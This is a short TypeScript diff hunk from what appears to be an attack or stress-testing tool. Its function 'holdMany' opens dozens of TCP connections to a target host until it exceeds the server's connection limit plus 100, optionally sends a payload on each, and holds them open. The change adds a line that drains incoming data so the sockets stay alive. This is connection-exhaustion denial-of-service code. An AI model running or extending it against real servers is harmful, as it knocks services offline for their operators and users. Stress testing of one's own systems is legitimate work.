@@ -11,6 +11,7 @@ async function holdMany(context: AttackContext, said: Buffer): Promise<void> {
     for (let at = 0; at < 64 && held.size < context.maxConnections + 100; at++) {
       const socket = connect({ host: context.target.host, port: context.target.port });
       socket.on('error', () => undefined);
+      socket.resume();
       socket.once('close', () => held.delete(socket));
       if (said.length > 0) socket.write(said);
       held.add(socket);
